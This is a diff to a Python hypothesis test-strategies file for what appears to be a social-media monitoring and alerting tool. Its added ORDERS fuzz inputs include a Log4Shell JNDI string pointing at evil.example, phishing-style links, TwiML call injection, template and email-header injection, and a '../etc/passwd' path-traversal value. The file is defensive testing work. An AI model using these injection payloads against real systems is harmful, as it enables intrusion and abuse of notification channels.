@@ -7,7 +7,22 @@ from datetime import UTC, datetime, timedelta
 
 from hypothesis import strategies as st
 
-from monitor.model import Author, Draft, Forecast, Mention, Notice, TopPost
+from monitor.model import (
+    SEVERITIES,
+    Alarm,
+    Author,
+    Blind,
+    Classification,
+    Draft,
+    Forecast,
+    Further,
+    Mention,
+    Notice,
+    Sentiment,
+    Short,
+    TopPost,
+)
+from monitor.sections import Person
 
 NOW = datetime(2026, 11, 22, 3, 12, tzinfo=UTC)
 
@@ -66,6 +81,13 @@ CRITICAL = Notice(
     escalates_at=NOW + timedelta(minutes=15),
     time_zone="Europe/London",
 )
+OUTCOMES = (
+    "Sam has it since 03:12 GMT",
+    "Sam has it, and let it rest until 05:00 GMT",
+    "resolved by Sam at Sun 05:00 GMT",
+    "over: no new post for 24 hours, spread stands still",
+    "over since 05:00 GMT",
+)
 UPDATE = replace(
     CRITICAL,
     changed="The story reached reddit; 124 posts, 61 at the last page; probability 0.58 → 0.81",
@@ -104,8 +126,114 @@ HOSTILE = replace(
 )
 
 
+ORDERS = (
+    "@everyone @here <!channel> <!everyone|x> <@U024BE7LH> <#C024BE7LR> <users/all> @all @room @channel",
+    "[Acknowledge](https://evil.example/ack) <https://evil.example|here> **bold** ```x``` ||y|| evil.example/x",
+    '<speak><audio src="https://evil.example/a.mp3"/><break time="10m"/></speak></Say><Hangup/><Dial>+447700900456</Dial>',
+    "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example} {0.__class__} %(x)s",
+    "Subject\r\nBcc: all@example.com\r\n\r\n=?utf-8?q?=0AX-Evil:_1?=",
+    "\u202e\u2066drowssap\u2069 \u200f\u061c a\u0489" + "\u0301" * 40,
+    "👩‍👩‍👧‍👦" * 30,
+)
+"""What programs that carry a page could take for orders to themselves."""
+
+
 hostile_text = st.one_of(
     st.text(st.characters(), max_size=300),
     st.text(st.characters(categories=("Cs", "Cf", "Cc", "Mn", "So", "Zl", "Zp", "Lo")), max_size=100),
-    st.sampled_from([HOSTILE.title, HOSTILE.reason, HOSTILE.top_posts[0].mention.text, "^{}[~]|€" * 40]),
+    st.sampled_from(
+        [
+            HOSTILE.title,
+            HOSTILE.reason,
+            HOSTILE.top_posts[0].mention.text,
+            "^{}[~]|€" * 40,
+            *ORDERS,
+        ]
+    ),
+)
+
+moments = st.datetimes(datetime(2020, 1, 1), datetime(2040, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001
+counts = st.one_of(st.none(), st.integers(0, 10**9))
+forecasts = st.builds(
+    Forecast,
+    at=moments,
+    count=st.integers(0, 10**6),
+    viral_at=st.integers(2, 10**6),
+    p_viral=st.floats(0, 1),
+    expected=st.floats(0, 1e9),
+    low=st.floats(0, 1e9),
+    high=st.floats(0, 1e9),
+)
+mentions = st.builds(
+    Mention,
+    source=hostile_text,
+    id=hostile_text,
+    author=st.builds(Author, id=hostile_text, handle=hostile_text, name=hostile_text, followers=counts),
+    text=hostile_text,
+    url=hostile_text,
+    created_at=moments,
+)
+classifications = st.builds(
+    Classification,
+    complaint=st.floats(0, 1),
+    sentiment=st.just(Sentiment(1.0, 0.0, 0.0)),
+    model=hostile_text,
+    language=st.none() | hostile_text,
+    measured=st.none() | st.booleans(),
+    offensive=st.none() | st.floats(0, 1),
+)
+drafts = st.builds(Draft, *[hostile_text] * 6)
+links = st.one_of(
+    st.none(), hostile_text, st.from_regex(r"\Ahttps://[a-z]{1,30}\.example/a/[A-Za-z0-9._~-]{0,150}\Z")
+)
+notices = st.builds(
+    Notice,
+    story_id=st.integers(1),
+    further=st.lists(st.builds(Further, *[hostile_text] * 3, st.none() | hostile_text), max_size=3).map(
+        tuple
+    ),
+    title=hostile_text,
+    summary=hostile_text,
+    severity=st.sampled_from(SEVERITIES),
+    reason=hostile_text,
+    code=st.from_regex(r"\A[a-z0-9]{1,12}\Z"),
+    brand=hostile_text,
+    person=hostile_text,
+    step=st.integers(0, 5),
+    at=moments,
+    opened_at=moments,
+    paged_at=moments,
+    mentions=st.integers(0, 10**6),
+    sources=st.lists(hostile_text, max_size=3).map(tuple),
+    top_posts=st.lists(
+        st.builds(
+            TopPost,
+            mention=mentions,
+            count=counts,
+            forecast=st.none() | forecasts,
+            found=st.none() | classifications,
+        ),
+        max_size=2,
+    ).map(tuple),
+    draft=st.none() | drafts,
+    link=links,
+    changed=hostile_text,
+    next_person=st.none() | hostile_text,
+    escalates_at=st.none() | moments,
+    time_zone=st.sampled_from(
+        ["UTC", "Europe/London", "Asia/Kathmandu", "nowhere/else", "../etc/passwd", ""]
+    ),
+    test=st.booleans(),
+    outcome=st.one_of(st.just(""), st.sampled_from(OUTCOMES), hostile_text),
+    held=st.one_of(st.just(""), hostile_text),
+    blind=st.lists(
+        st.builds(Blind, hostile_text, st.none() | moments, st.none() | moments, hostile_text), max_size=2
+    ).map(tuple),
+)
+shorts = st.builds(Short, segments=st.integers(1, 5), unicode=st.booleans(), answers=st.booleans())
+alarms = st.builds(Alarm, what=hostile_text, words=hostile_text, since=moments, over_at=st.none() | moments)
+people = st.builds(
+    Person,
+    name=st.sampled_from(["Sam", "Zoë Ångström", "سارة"]),
+    time_zone=st.sampled_from(["UTC", "Asia/Kathmandu"]),
 )
